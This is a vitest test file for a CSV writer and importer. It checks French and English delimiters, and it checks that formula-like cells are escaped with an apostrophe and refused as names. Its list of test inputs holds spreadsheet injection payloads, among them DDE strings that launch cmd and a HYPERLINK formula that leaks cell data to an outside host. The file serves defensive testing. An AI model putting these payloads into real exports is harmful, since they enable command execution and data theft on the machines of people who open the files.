import { expect, test } from "vitest";
import { byteOrderMark } from "@/lib/csv/csv-file";
import { readSheet } from "@/lib/csv/read-sheet";
import { readText } from "@/lib/csv/read-text";
import { writeRows } from "@/lib/csv/write-sheet";
import { checkRows } from "@/lib/domain/import-rows";

test("French takes semicolons, English commas, and both the ends of lines of Windows", () => {
  const rows = [
    ["Amina", "Théo, le grand"],
    ['"Zoé"', "a;b"],
  ];

  expect(writeRows(rows, "fr")).toBe('Amina;Théo, le grand\r\n"""Zoé""";"a;b"\r\n');
  expect(writeRows(rows, "en")).toBe('Amina,"Théo, le grand"\r\n"""Zoé""",a;b\r\n');
});

/** What OWASP lists, and what spreadsheets were found to calculate beside it. */
const injections = [
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "|calc",
  "%0A=1",
  '=HYPERLINK("https://elsewhere.example?"&A1,"Cliquez")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=1+1";=1+1',
  "=1+1\r\n=1+1",
];

test.each(injections)("%j is a text to a spreadsheet", (cell) => {
  for (const locale of ["fr", "en"] as const) {
    const written = writeRows([["Amina", cell]], locale);
    const [, quoted = ""] = /^Amina[;,]"?(.*)/s.exec(written) ?? [];

    expect(quoted.startsWith("'")).toBe(true);
  }
});

test.each(["Amina Benali", "O’Brien", "2026-11-22", "amina@example.org", "A=B", "", "'Abdu"])(
  "%j stays as it is",
  (cell) => {
    expect(
      writeRows([[cell]], "en")
        .replace(/\r\n$/, "")
        .replaceAll('"', ""),
    ).toBe(cell);
  },
);

test("none of them is let in as a name", () => {
  const headers = ["Mentor", "Mentor email", "Mentee", "Mentee email"];
  for (const cell of injections) {
    const file = writeRows([headers, [cell, "a@example.org", "Théo", "t@example.org"]], "en");
    const text = readText(Buffer.from(byteOrderMark + file));
    const read = readSheet("text" in text ? text.text : "");
    const { faults } =
      "sheet" in read ? checkRows(read.sheet.rows, read.sheet.headers) : { faults: [] };

    expect(
      faults.map(({ code }) => code),
      cell,
    ).toHaveLength(1);
  }
});
